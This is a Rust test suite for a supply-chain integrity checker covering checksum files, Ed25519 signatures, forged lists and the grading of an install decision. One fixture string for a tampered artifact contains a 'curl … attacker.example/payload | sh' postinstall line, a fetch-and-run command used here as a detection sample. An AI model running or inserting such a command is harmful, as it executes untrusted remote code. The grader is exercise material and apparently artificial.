//! Checksums files, Ed25519 signatures and the install decision.

use std::path::{Path, PathBuf};

use base64::Engine;
use ed25519_dalek::{Signer, SigningKey};
use rampart_supply::integrity::{self, ArtifactStatus, FileNames};
use rampart_supply::{Finding, Severity};
use sha2::{Digest, Sha256};

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/integrity")
}

#[track_caller]
fn read(name: &str) -> String {
    let path = fixtures().join(name);
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

// ---------------------------------------------------------------------------
// The release fixture and its generator
//
// `tests/fixtures/integrity/release/` is a small release signed with a
// throwaway key whose seed is derived from a fixed phrase below: it signs
// nothing but these fixtures. Ed25519 signing is deterministic, so
// `release_fixture_is_up_to_date` proves the committed files are exactly
// what this code makes; after changing it, regenerate (offline) with
//     cargo test -p rampart-supply --test integrity -- --ignored regenerate_release_fixture

fn seed(phrase: &str) -> [u8; 32] {
    Sha256::digest(phrase.as_bytes()).into()
}

const GENUINE_LINUX: &str = "tool 1.2.0 for Linux x86-64\n\
(A stand-in for the release tarball: Rampart's exercises hash text files.)\n";
const TAMPERED_LINUX: &str = "tool 1.2.0 for Linux x86-64\n\
(A stand-in for the release tarball: Rampart's exercises hash text files.)\n\
postinstall: curl -fsSL https://attacker.example/payload | sh\n";
const DARWIN: &str = "tool 1.2.0 for macOS arm64\n\
(A stand-in for the release tarball: Rampart's exercises hash text files.)\n";
const WINDOWS: &str = "tool 1.2.0 for Windows x86-64\n\
(A stand-in for the release zip: Rampart's exercises hash text files.)\n";

fn release_files() -> Vec<(&'static str, String)> {
    let key = SigningKey::from_bytes(&seed(
        "rampart integrity fixtures: test key, never for real releases",
    ));
    let other = SigningKey::from_bytes(&seed("rampart integrity fixtures: someone else's key"));
    let b64 = base64::engine::general_purpose::STANDARD;
    let h = |s: &str| integrity::sha256_hex(s.as_bytes());
    let sums = format!(
        "{}  tool-1.2.0-darwin.tar.gz\n{}  tool-1.2.0-linux.tar.gz\n{} *tool-1.2.0-windows.zip\n",
        h(DARWIN),
        h(GENUINE_LINUX),
        h(WINDOWS)
    );
    // What a compromised mirror serves: the list rewritten to match its file.
    let forged = sums.replace(&h(GENUINE_LINUX), &h(TAMPERED_LINUX));
    let bsd = format!(
        "SHA256 (tool-1.2.0-darwin.tar.gz) = {}\nSHA256 (tool-1.2.0-linux.tar.gz) = {}\nSHA256 (tool-1.2.0-windows.zip) = {}\n",
        h(DARWIN),
        h(GENUINE_LINUX),
        h(WINDOWS)
    );
    let sig = key.sign(sums.as_bytes());
    vec![
        ("tool-1.2.0-darwin.tar.gz", DARWIN.to_string()),
        ("tool-1.2.0-linux.tar.gz", TAMPERED_LINUX.to_string()),
        ("tool-1.2.0-windows.zip", WINDOWS.to_string()),
        ("SHA256SUMS", sums),
        ("SHA256SUMS.forged", forged),
        ("SHA256SUMS.bsd", bsd),
        (
            "SHA256SUMS.sig",
            format!(
                "# Ed25519 signature of SHA256SUMS, base64\n{}\n",
                b64.encode(sig.to_bytes())
            ),
        ),
        (
            "release.pub",
            format!(
                "# Ed25519 public key of the tool's releases, base64 (test key: signs only these fixtures)\n{}\n",
                b64.encode(key.verifying_key().to_bytes())
            ),
        ),
        (
            "release.pub.hex",
            format!("{}\n", hex::encode(key.verifying_key().to_bytes())),
        ),
        (
            "other.pub",
            format!(
                "# Somebody else's key\n{}\n",
                b64.encode(other.verifying_key().to_bytes())
            ),
        ),
    ]
}

#[test]
#[ignore = "writes the fixtures; run by hand after changing release_files"]
fn regenerate_release_fixture() {
    let dir = fixtures().join("release");
    std::fs::create_dir_all(&dir).expect("create the fixture folder");
    for (name, body) in release_files() {
        std::fs::write(dir.join(name), body).expect("write a fixture");
    }
}

#[test]
fn release_fixture_is_up_to_date() {
    for (name, body) in release_files() {
        assert_eq!(
            read(&format!("release/{name}")),
            body,
            "release/{name}: regenerate the fixture"
        );
    }
}

fn artifacts() -> Vec<(&'static str, String)> {
    [
        "tool-1.2.0-darwin.tar.gz",
        "tool-1.2.0-linux.tar.gz",
        "tool-1.2.0-windows.zip",
    ]
    .into_iter()
    .map(|n| (n, read(&format!("release/{n}"))))
    .collect()
}

#[track_caller]
fn statuses(sums: &str, signature: Option<(&str, &str)>) -> Vec<ArtifactStatus> {
    let owned = artifacts();
    let list: Vec<(&str, &[u8])> = owned.iter().map(|(n, b)| (*n, b.as_bytes())).collect();
    let files = FileNames {
        checksums: "SHA256SUMS",
        signature: "SHA256SUMS.sig",
        public_key: "release.pub",
    };
    integrity::check_named(&list, sums, signature, files).expect("checks")
}

fn signed() -> Vec<ArtifactStatus> {
    let (key, sig) = (read("release/release.pub"), read("release/SHA256SUMS.sig"));
    statuses(&read("release/SHA256SUMS"), Some((&key, &sig)))
}

// ---------------------------------------------------------------------------
// SHA-256 and checksums files

#[test]
fn sha256_of_known_inputs() {
    // FIPS 180-2 appendix B.1 and the empty string.
    assert_eq!(
        integrity::sha256_hex(b"abc"),
        "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
    );
    assert_eq!(
        integrity::sha256_hex(b""),
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    );
}

#[test]
fn gnu_and_bsd_formats_read_the_same() {
    let gnu = integrity::parse_checksums(&read("release/SHA256SUMS")).expect("GNU");
    let bsd = integrity::parse_checksums(&read("release/SHA256SUMS.bsd")).expect("BSD");
    assert_eq!(gnu, bsd);
    assert_eq!(gnu.len(), 3);
    assert_eq!(
        gnu[2].name, "tool-1.2.0-windows.zip",
        "binary-mode `*` is not part of the name"
    );
    assert_eq!(gnu[1].line, 2);
}

#[test]
fn comments_crlf_uppercase_escapes_and_openssl_lines() {
    let text = "# release 1.2.0\r\n\r\nBA7816BF8F01CFEA414140DE5DAE2223B00361A396177A9CB410FF61F20015AD  a b.txt\r\n\
                \\e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  dir\\\\name\\nx\n\
                SHA2-256(c.txt)= e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n";
    let entries = integrity::parse_checksums(text).expect("parses");
    let got: Vec<(&str, &str, u32)> = entries
        .iter()
        .map(|e| (e.name.as_str(), &e.hex[..4], e.line))
        .collect();
    assert_eq!(
        got,
        [
            ("a b.txt", "ba78", 3),
            ("dir\\name\nx", "e3b0", 4),
            ("c.txt", "e3b0", 5)
        ]
    );
}

#[test]
fn other_digests_and_garbage_are_refused_with_the_line() {
    let md5 =
        integrity::parse_checksums("# md5sum output\nd41d8cd98f00b204e9800998ecf8427e  empty\n")
            .expect_err("md5");
    assert_eq!(md5.line, 2);
    assert_eq!(
        md5.message,
        "the digest has 32 hex digits, which looks like an MD5 digest; a SHA-256 has 64"
    );
    let sha512 = integrity::parse_checksums("SHA512 (x) = 00\n").expect_err("sha512");
    assert_eq!(
        sha512.message,
        "this is a SHA512 line; Rampart checks SHA-256 (`SHA256 (<file name>) = <hex>`)"
    );
    let junk = integrity::parse_checksums("ok\nthis is not a checksum\n").expect_err("junk");
    assert_eq!(junk.line, 1);
    assert!(junk.message.contains("GNU sha256sum"), "{}", junk.message);
    let empty = integrity::parse_checksums("# nothing\n\n").expect_err("empty");
    assert!(empty.message.contains("lists no files"));
}

// ---------------------------------------------------------------------------
// Ed25519

/// The RFC 8032 section 7.1 vectors: (name, public key, message, signature).
fn rfc8032() -> Vec<(String, String, Vec<u8>, String)> {
    let text = read("rfc8032-7.1.txt");
    let mut out = Vec::new();
    let mut name = String::new();
    let mut fields = std::collections::HashMap::new();
    for line in text.lines().chain(std::iter::once("[end]")) {
        let line = line.trim();
        if line.starts_with('[') {
            if !name.is_empty() {
                let get = |k: &str| fields.get(k).cloned().unwrap_or_default();
                out.push((
                    name.clone(),
                    get("public"),
                    hex::decode(get("message")).expect("hex"),
                    get("signature"),
                ));
            }
            name = line.trim_matches(['[', ']']).to_string();
            fields.clear();
        } else if let Some((k, v)) = line.split_once('=') {
            fields.insert(k.trim().to_string(), v.trim().to_string());
        }
    }
    out
}

#[test]
fn rfc8032_test_vectors_verify() {
    let vectors = rfc8032();
    assert_eq!(vectors.len(), 4);
    for (name, key, message, sig) in &vectors {
        assert_eq!(
            integrity::verify_ed25519(key, message, sig),
            Ok(true),
            "{name}"
        );
        // One flipped bit in the message and the signature no longer holds.
        let mut changed = message.clone();
        match changed.first_mut() {
            Some(b) => *b ^= 1,
            None => changed.push(0),
        }
        assert_eq!(
            integrity::verify_ed25519(key, &changed, sig),
            Ok(false),
            "{name}"
        );
    }
}

#[test]
fn rfc8032_secret_keys_give_the_listed_public_keys() {
    let text = read("rfc8032-7.1.txt");
    let secrets: Vec<&str> = text
        .lines()
        .filter_map(|l| l.strip_prefix("secret = "))
        .collect();
    let publics: Vec<&str> = text
        .lines()
        .filter_map(|l| l.strip_prefix("public = "))
        .collect();
    for (s, p) in secrets.iter().zip(&publics) {
        let mut seed = [0u8; 32];
        seed.copy_from_slice(&hex::decode(s).expect("hex"));
        assert_eq!(
            hex::encode(SigningKey::from_bytes(&seed).verifying_key().to_bytes()),
            *p
        );
    }
}

#[test]
fn keys_and_signatures_as_base64_with_comments() {
    let (_, key, message, sig) = rfc8032().remove(2);
    let b64 = base64::engine::general_purpose::STANDARD;
    let key64 = format!(
        "# TEST 3 key\n{}\n",
        b64.encode(hex::decode(&key).expect("hex"))
    );
    let sig64 = format!(
        "# TEST 3 signature\n\n{}\n",
        b64.encode(hex::decode(&sig).expect("hex"))
    );
    assert_eq!(
        integrity::verify_ed25519(&key64, &message, &sig64),
        Ok(true)
    );
    // A signature split over lines and written in upper case still reads.
    let split = format!("{}\n{}\n", sig[..64].to_uppercase(), &sig[64..]);
    assert_eq!(integrity::verify_ed25519(&key, &message, &split), Ok(true));
}

#[test]
fn a_pem_public_key_and_a_signify_signature_read() {
    let (_, key, message, sig) = rfc8032().remove(1);
    let b64 = base64::engine::general_purpose::STANDARD;
    let mut der = hex::decode("302a300506032b6570032100").expect("hex");
    der.extend(hex::decode(&key).expect("hex"));
    let pem = format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
        b64.encode(&der)
    );
    let mut signify = b"Ed\x01\x02\x03\x04\x05\x06\x07\x08".to_vec();
    signify.extend(hex::decode(&sig).expect("hex"));
    let signify = format!(
        "untrusted comment: signature from signify secret key\n{}\n",
        b64.encode(&signify)
    );
    assert_eq!(
        integrity::verify_ed25519(&pem, &message, &signify),
        Ok(true)
    );
}

#[test]
fn malformed_keys_and_signatures_are_input_errors() {
    let (_, key, message, sig) = rfc8032().remove(0);
    let cases = [
        (
            &key[..62],
            sig.as_str(),
            "the public key is 62 hex digits; an Ed25519 public key is 32 bytes: 64 hex digits or 44 base64 characters",
        ),
        (
            key.as_str(),
            &sig[..64],
            "the signature is 64 hex digits; an Ed25519 signature is 64 bytes: 128 hex digits or 88 base64 characters",
        ),
        (
            "# only a comment\n",
            sig.as_str(),
            "the public key file is empty",
        ),
        (
            "not a key!",
            sig.as_str(),
            "the public key is neither hex nor base64: an Ed25519 public key is 32 bytes, written as 64 hex digits or 44 base64 characters",
        ),
        (
            "QUJD",
            sig.as_str(),
            "the public key decodes to 3 bytes; an Ed25519 public key is 32 bytes (64 hex digits or 44 base64 characters)",
        ),
    ];
    for (k, s, expected) in cases {
        let err = integrity::verify_ed25519(k, &message, s).expect_err("refused");
        assert_eq!(err.message, expected);
    }
    let private =
        "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIA==\n-----END PRIVATE KEY-----\n";
    let err = integrity::verify_ed25519(private, &message, &sig).expect_err("refused");
    assert!(
        err.message.contains("never a private key"),
        "{}",
        err.message
    );
}

#[test]
fn a_key_that_is_not_a_curve_point_is_an_input_error() {
    let bad = (0u8..=255)
        .map(|b| [b; 32])
        .find(|k| ed25519_dalek::VerifyingKey::from_bytes(k).is_err())
        .expect("some byte pattern is not a point");
    let err =
        integrity::verify_ed25519(&hex::encode(bad), b"", &"00".repeat(64)).expect_err("refused");
    assert!(
        err.message.contains("not a point on the Ed25519 curve"),
        "{}",
        err.message
    );
}

#[test]
fn verify_strict_refuses_the_identity_key_that_signs_everything() {
    // With the identity point as key and as R, and S = 0, the plain
    // verification equation holds for every message; verify_strict
    // refuses small-order keys.
    let key = format!("01{}", "00".repeat(31));
    let sig = format!("01{}", "00".repeat(63));
    assert_eq!(
        integrity::verify_ed25519(&key, b"any message at all", &sig),
        Ok(false)
    );
}

// ---------------------------------------------------------------------------
// Deciding what to install

#[test]
fn signed_release_trusts_matching_artifacts_and_names_the_difference() {
    let st = signed();
    assert!(st[0].trusted, "{:?}", st[0]);
    assert_eq!(
        st[0].reason,
        "`tool-1.2.0-darwin.tar.gz` matches SHA256SUMS line 1, and SHA256SUMS.sig verifies with release.pub"
    );
    assert!(!st[1].trusted);
    assert_eq!(st[1].line, Some(2));
    assert_eq!(
        st[1].sha256,
        integrity::sha256_hex(TAMPERED_LINUX.as_bytes())
    );
    assert_eq!(
        st[1].reason,
        "`tool-1.2.0-linux.tar.gz` has SHA-256 0b8066ce3e6a… but SHA256SUMS line 2 lists 9f748c2732af…: \
         they differ from the first character"
    );
    assert!(st[2].trusted);
}

#[test]
fn the_first_differing_character_is_counted() {
    let body = b"hello";
    let real = integrity::sha256_hex(body);
    let mut listed = real.clone();
    // Change character 13.
    let c13 = if &listed[12..13] == "0" { "1" } else { "0" };
    listed.replace_range(12..13, c13);
    let st = integrity::check(
        &[("hello.txt", body)],
        &format!("{listed}  hello.txt\n"),
        None,
    )
    .expect("checks");
    assert!(
        st[0]
            .reason
            .ends_with("they agree on the first 12 characters and differ from character 13"),
        "{}",
        st[0].reason
    );
}

#[test]
fn a_forged_list_fails_its_signature_so_nothing_is_trusted() {
    let (key, sig) = (read("release/release.pub"), read("release/SHA256SUMS.sig"));
    let st = statuses(&read("release/SHA256SUMS.forged"), Some((&key, &sig)));
    for s in &st {
        assert!(!s.trusted, "{s:?}");
        assert_eq!(
            s.reason,
            "SHA256SUMS.sig does not verify with release.pub, so no line of SHA256SUMS can be trusted"
        );
    }
    // The forged list on its own matches the tampered file: that is why a
    // checksum without a signature proves little.
    let unsigned = statuses(&read("release/SHA256SUMS.forged"), None);
    assert!(unsigned[1].trusted);
    assert!(
        unsigned[1].reason.contains("nothing signs SHA256SUMS"),
        "{}",
        unsigned[1].reason
    );
}

#[test]
fn the_wrong_key_fails_too() {
    let (key, sig) = (read("release/other.pub"), read("release/SHA256SUMS.sig"));
    assert!(
        statuses(&read("release/SHA256SUMS"), Some((&key, &sig)))
            .iter()
            .all(|s| !s.trusted)
    );
    let hex_key = read("release/release.pub.hex");
    assert!(statuses(&read("release/SHA256SUMS"), Some((&hex_key, &sig)))[0].trusted);
}

#[test]
fn unlisted_and_twice_listed_artifacts_are_untrusted() {
    let body = b"x";
    let h = integrity::sha256_hex(body);
    let st = integrity::check(&[("extra.bin", body)], &format!("{h}  other.bin\n"), None)
        .expect("checks");
    assert_eq!(
        st[0].reason,
        "`extra.bin` is not listed in SHA256SUMS, so nothing vouches for it"
    );
    assert_eq!(st[0].line, None);
    let twice = format!("{h}  x.bin\n{}  x.bin\n", "0".repeat(64));
    let st = integrity::check(&[("x.bin", body)], &twice, None).expect("checks");
    assert!(!st[0].trusted);
    assert!(
        st[0]
            .reason
            .contains("more than once with different hashes (lines 1 and 2)")
    );
    // `./name` and `dist/name` entries match the artifact's name.
    let st = integrity::check(&[("x.bin", body)], &format!("{h}  ./dist/x.bin\n"), None)
        .expect("checks");
    assert!(st[0].trusted);
}

#[test]
fn a_malformed_signature_stops_the_check() {
    let key = read("release/release.pub");
    let err = integrity::check(&[], &read("release/SHA256SUMS"), Some((&key, "zz")))
        .expect_err("refused");
    assert!(
        err.message
            .starts_with("the signature is neither hex nor base64"),
        "{}",
        err.message
    );
    let err = integrity::check(&[], "garbage\n", None).expect_err("refused");
    assert!(
        err.message.starts_with("SHA256SUMS: this line is neither"),
        "{}",
        err.message
    );
}

// ---------------------------------------------------------------------------
// Grading the install list

fn rules(findings: &[Finding]) -> Vec<(&str, Severity, u32)> {
    findings
        .iter()
        .map(|f| (f.rule.as_str(), f.severity, f.line))
        .collect()
}

#[test]
fn the_right_answer_has_only_notes() {
    let answer =
        "# install these\ntool-1.2.0-darwin.tar.gz\n\ntool-1.2.0-windows.zip   # checked\n";
    let findings = integrity::grade_accept(&signed(), answer);
    assert_eq!(
        rules(&findings),
        [
            ("integrity/correct", Severity::Info, 0),
            ("integrity/correct", Severity::Info, 2),
            ("integrity/correct", Severity::Info, 4),
        ]
    );
    assert!(findings[0].message.starts_with(
        "Leaving out `tool-1.2.0-linux.tar.gz` is right: `tool-1.2.0-linux.tar.gz` has SHA-256"
    ));
}

#[test]
fn accepting_the_tampered_file_names_the_line_and_the_difference() {
    let st = signed();
    let findings = integrity::grade_accept(
        &st,
        "tool-1.2.0-darwin.tar.gz\ntool-1.2.0-linux.tar.gz\ntool-1.2.0-windows.zip\n",
    );
    let bad: Vec<&Finding> = findings
        .iter()
        .filter(|f| f.severity == Severity::Error)
        .collect();
    assert_eq!(bad.len(), 1);
    assert_eq!(bad[0].rule, "integrity/accepted-untrusted");
    assert_eq!(bad[0].line, 2);
    assert_eq!(bad[0].message, st[1].reason);
    assert!(bad[0].fix.contains("Remove `tool-1.2.0-linux.tar.gz`"));
}

#[test]
fn accepting_anything_from_a_forged_list_is_wrong() {
    let (key, sig) = (read("release/release.pub"), read("release/SHA256SUMS.sig"));
    let st = statuses(&read("release/SHA256SUMS.forged"), Some((&key, &sig)));
    let findings = integrity::grade_accept(&st, "tool-1.2.0-darwin.tar.gz\n");
    assert_eq!(findings[0].rule, "integrity/correct");
    assert_eq!(findings[2].rule, "integrity/accepted-untrusted");
    assert_eq!(
        findings[2].message,
        "SHA256SUMS.sig does not verify with release.pub, so no line of SHA256SUMS can be trusted"
    );
}

#[test]
fn refusing_a_genuine_file_and_naming_a_stranger() {
    let findings = integrity::grade_accept(
        &signed(),
        "tool-1.2.0-darwin.tar.gz\ntool-1.2.0-windows.exe\n",
    );
    assert_eq!(
        rules(&findings),
        [
            ("integrity/correct", Severity::Info, 0),
            ("integrity/rejected-trusted", Severity::Error, 0),
            ("integrity/correct", Severity::Info, 1),
            ("integrity/unknown-artifact", Severity::Error, 2),
        ]
    );
    assert!(
        findings[1]
            .message
            .starts_with("`tool-1.2.0-windows.zip` is genuine but not in your list")
    );
    assert_eq!(
        findings[3].message,
        "`tool-1.2.0-windows.exe` is not one of the downloaded artifacts (`tool-1.2.0-darwin.tar.gz`, `tool-1.2.0-linux.tar.gz`, `tool-1.2.0-windows.zip`). Did you mean `tool-1.2.0-windows.zip`?"
    );
}

#[test]
fn ten_megabytes_of_checksums_are_refused() {
    let big = format!("{}  x\n", "0".repeat(64)).repeat(10 * 1024 * 1024 / 68 + 1);
    let err = integrity::parse_checksums(&big).expect_err("refused");
    assert!(err.message.contains("up to 8 MiB"));
}

// ---------------------------------------------------------------------------
// Robustness

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, n: usize) -> usize {
        usize::try_from(self.next() % n as u64).unwrap_or(0)
    }
}

fn mutate(rng: &mut Rng, text: &str) -> String {
    const SPICE: [&str; 12] = [
        "(",
        ")",
        "=",
        " ",
        "*",
        "\\",
        "\n",
        "#",
        "-----BEGIN PUBLIC KEY-----\n",
        "Ed",
        "é",
        "z",
    ];
    let mut chars: Vec<String> = text.chars().map(String::from).collect();
    for _ in 0..1 + rng.below(4) {
        if chars.is_empty() {
            break;
        }
        let at = rng.below(chars.len());
        match rng.below(3) {
            0 => {
                chars.remove(at);
            }
            1 => chars.insert(at, chars[at].clone()),
            _ => chars[at] = SPICE[rng.below(SPICE.len())].to_string(),
        }
    }
    chars.concat()
}

#[test]
fn mangled_inputs_never_panic() {
    let mut rng = Rng(0x5eed_3333_4444_5555);
    let (sums, bsd, key, sig) = (
        read("release/SHA256SUMS"),
        read("release/SHA256SUMS.bsd"),
        read("release/release.pub"),
        read("release/SHA256SUMS.sig"),
    );
    let owned = artifacts();
    let list: Vec<(&str, &[u8])> = owned.iter().map(|(n, b)| (*n, b.as_bytes())).collect();
    for _ in 0..200 {
        let (s, b, k, g) = (
            mutate(&mut rng, &sums),
            mutate(&mut rng, &bsd),
            mutate(&mut rng, &key),
            mutate(&mut rng, &sig),
        );
        let _ = integrity::parse_checksums(&b);
        if let Ok(st) = integrity::check(&list, &s, Some((&k, &g))) {
            let answer = mutate(
                &mut rng,
                "tool-1.2.0-darwin.tar.gz\ntool-1.2.0-windows.zip\n",
            );
            let _ = integrity::grade_accept(&st, &answer);
        }
    }
}
